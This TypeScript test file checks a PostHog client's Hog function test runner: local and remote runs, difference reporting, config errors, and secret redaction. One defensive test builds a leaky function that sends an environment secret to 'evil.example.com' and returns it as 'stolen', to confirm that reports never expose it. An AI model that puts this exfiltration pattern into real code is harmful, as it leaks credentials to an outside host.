import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { InvalidArgumentError, ProjectClient } from 'posthog-project-client'
import { ConfigError, pull, readConfig, testHogFunctions, writeConfig } from 'posthog-project-client/config'
import type { HogTestReport } from 'posthog-project-client/config'
import { createFakeApi } from 'posthog-project-client/testing'

/** Hog function tests beside the specs: read with file and line, run locally and through the fake's invocations. */

const SECRET = 'whsec-do-not-print-0123'
const ENV = { POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN: SECRET }

const spec = (body: string) => `name: Order webhook
type: destination
hog: |
  let res := fetch(inputs.url, {
    'method': 'POST',
    'headers': {'Authorization': f'Bearer {inputs.api_token}', 'Content-Type': 'application/json'},
    'body': ${body}
  })
  print('sent', res.status)
inputs_schema:
  - { key: url, type: string, label: URL, required: true }
  - { key: api_token, type: string, label: Token, secret: true }
inputs:
  url: { value: 'https://hooks.example.com/orders/{event.properties.order_id}' }
  api_token: { value: { $env: POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN } }
filters:
  events: [{ id: order_placed, type: events, name: order_placed, order: 0 }]
`
const GOOD_BODY = "{'event': event.event, 'total': event.properties.total, 'currency': 'EUR'}"
/** A pull request's mistake: the total read from a property that is not there. */
const BROKEN_BODY = "{'event': event.event, 'total': event.properties.amount, 'currency': 'EUR'}"

const TESTS = `- name: sends the order
  event:
    event: order_placed
    distinct_id: user-1
    properties: { order_id: 'A-17', total: 25 }
  expect:
    calls:
      - method: POST
        url: https://hooks.example.com/orders/A-17
        headers: { Authorization: Bearer ***REDACTED*** }
        body: { event: order_placed, total: 25, currency: EUR }
    logs: ['sent, 200']
- name: ignores other events
  event: { event: $pageview }
  expect: { skipped: true }
- name: a failed delivery is logged
  event: { event: order_placed, properties: { order_id: 'B-2', total: 3 } }
  fetch: [{ status: 500, body: { error: down } }]
  expect:
    calls: [{ url: https://hooks.example.com/orders/B-2, bodyIncludes: { total: 3 } }]
    logs: ['sent, 500']
`

describe('hog function tests', () => {
  const folders: string[] = []
  const folder = (files: Record<string, string>) => {
    const root = mkdtempSync(join(tmpdir(), 'posthog-hog-tests-'))
    folders.push(root)
    const dir = join(root, 'posthog')
    mkdirSync(join(dir, 'hog-functions'), { recursive: true })
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, 'hog-functions', name), text)
    return dir
  }
  afterEach(() => {
    for (const root of folders.splice(0)) rmSync(root, { recursive: true, force: true })
  })
  const verdicts = (report: HogTestReport) =>
    report.cases.map((item) => [item.name, item.ok, item.differences.map((d) => d.path)])
  /** The webhook with `body` and the tests `tests`, read. */
  const webhook = (body: string, tests: string) =>
    readConfig(folder({ 'Order-webhook.yaml': spec(body), 'Order-webhook.test.yaml': tests }))
  const fakeClient = () => {
    const fake = createFakeApi({ allowUnscopedActions: true })
    return { fake, client: new ProjectClient({ ...fake.clientOptions(), fetch: fake.fetch }) }
  }

  it('readConfig reads <name>.test.yaml as the tests of <name>, never as a spec', async () => {
    const dir = folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS })
    const config = await readConfig(dir)
    expect(config.hogFunctions?.map((item) => item.name)).toEqual(['Order webhook'])
    const report = await testHogFunctions(config, { env: ENV })
    expect(report.cases.map((item) => [item.function, item.name])).toEqual([
      ['Order webhook', 'sends the order'],
      ['Order webhook', 'ignores other events'],
      ['Order webhook', 'a failed delivery is logged'],
    ])
  })

  it('the unbroken webhook passes every case; a broken body fails with the call and the field named', async () => {
    const good = await testHogFunctions(await webhook(GOOD_BODY, TESTS), { env: ENV })
    expect(good.cases.filter((item) => !item.ok).map((item) => item.differences)).toEqual([])
    expect(good).toMatchObject({ passed: 3, failed: 0 })
    const call = { method: 'POST', url: 'https://hooks.example.com/orders/A-17', body: { total: 25 } }
    expect(good.cases[0]?.calls[0]).toMatchObject(call)

    const broken = await testHogFunctions(await webhook(BROKEN_BODY, TESTS), { env: ENV })
    expect(broken).toMatchObject({ passed: 1, failed: 2 })
    expect(broken.cases[0]?.differences).toEqual([
      {
        path: 'calls[0].body.total',
        expected: 25,
        got: null,
        message: 'call 1 (POST https://hooks.example.com/orders/A-17): body.total: expected 25, got null',
      },
    ])
    expect(broken.cases[2]?.differences.map((d) => d.message)).toEqual([
      'call 1 (POST https://hooks.example.com/orders/B-2): body.total: expected 3, got null',
    ])
  })

  it("--remote: the fake's invocations give the same verdicts, with the calls read from its mock lines", async () => {
    const { fake, client } = fakeClient()
    const remoteOnly = TESTS.split('- name: a failed delivery')[0]!
    for (const body of [GOOD_BODY, BROKEN_BODY]) {
      const config = await webhook(body, remoteOnly)
      const local = await testHogFunctions(config, { env: ENV })
      const from = fake.requests.length
      const remote = await testHogFunctions(config, { env: ENV, remote: true, client })
      expect(verdicts(remote)).toEqual(verdicts(local))
      expect(remote.cases.map((item) => item.calls)).toEqual(local.cases.map((item) => item.calls))
      const sent = fake.requests.slice(from)
      expect(sent.map((request) => `${request.method} ${request.path}`)).toEqual([
        'POST /api/projects/1/hog_functions/new/invocations/',
        'POST /api/projects/1/hog_functions/new/invocations/',
      ])
      expect(sent[0]?.body).toMatchObject({
        mock_async_functions: true,
        globals: { event: { event: 'order_placed' } },
        configuration: { name: 'Order webhook' },
      })
    }
    const remoteOptions = { env: ENV, remote: true, client }
    const brokenRemotely = await testHogFunctions(await webhook(BROKEN_BODY, remoteOnly), remoteOptions)
    expect(verdicts(brokenRemotely)).toEqual([
      ['sends the order', false, ['calls[0].body.total']],
      ['ignores other events', true, []],
    ])
  })

  it('--remote reads the calls from the mock lines (JSON or undefined options), redacted as locally', async () => {
    const options = { method: 'PUT', headers: { 'X-Key': SECRET }, body: { n: 1 } }
    const answer = {
      status: 'success',
      result: null,
      errors: [],
      logs: [
        { level: 'info', message: "Async function 'fetch' was mocked with arguments:" },
        { level: 'info', message: "fetch('https://a.example.com/x', undefined)" },
        { level: 'info', message: "Async function 'fetch' was mocked with arguments:" },
        { level: 'info', message: `fetch('https://b.example.com/?q=', ', ${JSON.stringify(options, null, 2)})` },
        { level: 'info', message: `printed ${SECRET}` },
      ],
    }
    const sent: unknown[] = []
    const invocations = async (id: string, body: unknown) => (sent.push([id, body]), answer)
    const client = { hogFunctions: { invocations } } as unknown as ProjectClient
    const tests = `- name: two calls
  event: { event: order_placed }
  expect:
    calls:
      - { method: POST, url: https://a.example.com/x, headers: { Content-Type: application/json }, body: null }
      - { method: PUT, url: "https://b.example.com/?q=', ", headers: { X-Key: "***REDACTED***" }, body: { n: 1 } }
    logs: [printed ***REDACTED***]
`
    const report = await testHogFunctions(await webhook(GOOD_BODY, tests), { env: ENV, remote: true, client })
    expect(report.cases[0]?.differences).toEqual([])
    expect(JSON.stringify(report)).not.toContain(SECRET)
    const configuration = { inputs: { api_token: { value: SECRET } } }
    expect(sent).toMatchObject([['new', { mock_async_functions: true, configuration }]])
  })

  it('--remote refuses fetch answers it cannot give the service, naming them', async () => {
    const { client } = fakeClient()
    const filter = { cases: ['a failed delivery is logged'] }
    const report = await testHogFunctions(await webhook(GOOD_BODY, TESTS), { env: ENV, remote: true, client, filter })
    expect(report.cases[0]).toMatchObject({ ok: false, differences: [{ path: 'fetch' }] })
  })

  it('result and error: an event field by field, an error expected or not; the same remotely', async () => {
    const transformation = `name: Order webhook
type: transformation
hog: |
  if (event.properties.bad) { throw Error('bad event') }
  return {'event': event.event, 'properties': {'seen': true}}
`
    const tests = `- name: returns the changed event
  event: { event: a }
  expect: { result: { event: a, properties: { seen: false } } }
- name: fails on a bad event
  event: { event: a, properties: { bad: true } }
  expect: { error: bad event }
- name: an error no one expected
  event: { event: a, properties: { bad: true } }
  expect: {}
`
    const config = await readConfig(folder({ 'Order-webhook.yaml': transformation, 'Order-webhook.test.yaml': tests }))
    const local = await testHogFunctions(config)
    expect(local.cases.map((item) => item.differences.map((d) => d.message))).toEqual([
      ['result.properties.seen: expected false, got true'],
      [],
      [expect.stringMatching(/^error: expected none, got ".*bad event/)],
    ])
    const { client } = fakeClient()
    expect(verdicts(await testHogFunctions(config, { remote: true, client }))).toEqual(verdicts(local))
  })

  it('a secret is never in the report, even where the code logs, returns or sends it past redaction', async () => {
    const leaky = `name: Order webhook
type: transformation
hog: |
  print('token is', inputs.note)
  fetch('https://evil.example.com/' || inputs.note, {'body': {'leak': inputs.note}})
  return {'stolen': inputs.note}
inputs_schema: [{ key: note, type: string, label: Note }]
inputs: { note: { value: { $env: POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN } } }
`
    const tests = `- name: leaks
  event: { event: order_placed }
  expect: { calls: [{ body: { leak: nothing } }], result: { stolen: nothing }, logs: [never printed] }
`
    const config = await readConfig(folder({ 'Order-webhook.yaml': leaky, 'Order-webhook.test.yaml': tests }))
    const report = await testHogFunctions(config, { env: ENV })
    expect(report.failed).toBe(1)
    const text = JSON.stringify(report)
    expect(text).toContain('"got":"(secret)"')
    expect(text).not.toContain(SECRET)
    expect(text).not.toContain(encodeURIComponent(SECRET))
  })

  it('a secret whose variable is not set fails each case of its function, naming the variable only', async () => {
    const config = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS }))
    const report = await testHogFunctions(config, { env: {} })
    expect(report.failed).toBe(3)
    expect(report.cases[0]?.differences[0]?.message).toContain('POSTHOG_SECRET_ORDER_WEBHOOK_API_TOKEN is not set')
  })

  it('selects functions and cases; a name that matches nothing is an InvalidArgumentError', async () => {
    const config = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': TESTS }))
    const filter = { keys: ['Order webhook'], cases: ['ignores other events'] }
    const one = await testHogFunctions(config, { env: ENV, filter })
    expect(one.cases.map((item) => item.name)).toEqual(['ignores other events'])
    for (const unmatched of [{ keys: ['Nope'] }, { cases: ['nope'] }]) {
      await expect(testHogFunctions(config, { env: ENV, filter: unmatched })).rejects.toThrow(InvalidArgumentError)
    }
  })

  it('problems of a test file carry file and line; a test file without its spec is one; JSON is read too', async () => {
    const bad = `- name: one
  event: { event: order_placed }
  expect:
    calls:
      - methd: POST
- name: one
  event: { event: x }
  expect: {}
`
    const files = { 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.yaml': bad, 'Gone.test.yaml': TESTS }
    const dir = folder(files)
    const error = await readConfig(dir).catch((caught: unknown) => caught)
    expect(error).toBeInstanceOf(ConfigError)
    const problems = (error as ConfigError).problems.map(({ file, line, path }) => {
      return [file.split('posthog/')[1], line, path]
    })
    expect(problems).toEqual([
      ['hog-functions/Gone.test.yaml', 0, ''],
      ['hog-functions/Order-webhook.test.yaml', 5, '[0].expect.calls[0].methd'],
      ['hog-functions/Order-webhook.test.yaml', 6, '[1].name'],
    ])
    const json = JSON.stringify([{ name: 'json case', event: { event: '$pageview' }, expect: { skipped: true } }])
    const read = await readConfig(folder({ 'Order-webhook.yaml': spec(GOOD_BODY), 'Order-webhook.test.json': json }))
    expect(await testHogFunctions(read, { env: ENV })).toMatchObject({ passed: 1, failed: 0 })
  })

  it('pull withTests writes a starter test that runs and passes, and never replaces a test file', async () => {
    const fake = createFakeApi()
    const client = new ProjectClient({ ...fake.clientOptions(), fetch: fake.fetch })
    await client.hogFunctions.create({
      type: 'destination',
      name: 'Order webhook',
      hog:
        "fetch(inputs.url, {'headers': {'Authorization': f'Bearer {inputs.api_token}'}, " +
        "'body': {'plan': event.properties.plan}})",
      inputs_schema: [
        { type: 'string', key: 'url', label: 'URL' },
        { type: 'string', key: 'api_token', label: 'Token', secret: true },
      ],
      inputs: { url: { value: 'https://example.com/orders' }, api_token: { value: SECRET } },
      filters: {
        events: [
          {
            id: 'order_placed',
            type: 'events',
            properties: [{ key: 'plan', value: ['pro'], operator: 'exact', type: 'event' }],
          },
        ],
      },
    })
    const dir = folder({})
    await writeConfig(dir, await pull(client, { kinds: ['hogFunctions'], withTests: true }))
    expect(readdirSync(join(dir, 'hog-functions')).sort()).toEqual(['Order-webhook.test.yaml', 'Order-webhook.yaml'])
    const starter = readFileSync(join(dir, 'hog-functions', 'Order-webhook.test.yaml'), 'utf8')
    expect(starter).toMatch(/^# yaml-language-server: \$schema=\.\.\/\.schemas\/config\.hogFunctionTests\.json\n/)
    expect(readdirSync(join(dir, '.schemas'))).toContain('config.hogFunctionTests.json')
    expect(starter).not.toContain(SECRET)
    const report = await testHogFunctions(await readConfig(dir), { env: ENV })
    expect(report).toMatchObject({ passed: 1, failed: 0 })
    expect(report.cases[0]?.calls).toEqual([
      {
        method: 'POST',
        url: 'https://example.com/orders',
        headers: { Authorization: 'Bearer ***REDACTED***' },
        body: { plan: 'pro' },
      },
    ])
    // The team's edits stay: a second pull writes the specs again and leaves the test file alone.
    const edited = TESTS.split('- name: ignores')[0]!
    const testFile = join(dir, 'hog-functions', 'Order-webhook.test.yaml')
    writeFileSync(testFile, edited)
    await writeConfig(dir, await pull(client, { kinds: ['hogFunctions'], withTests: true }))
    expect(readFileSync(testFile, 'utf8')).toBe(edited)
  })
})
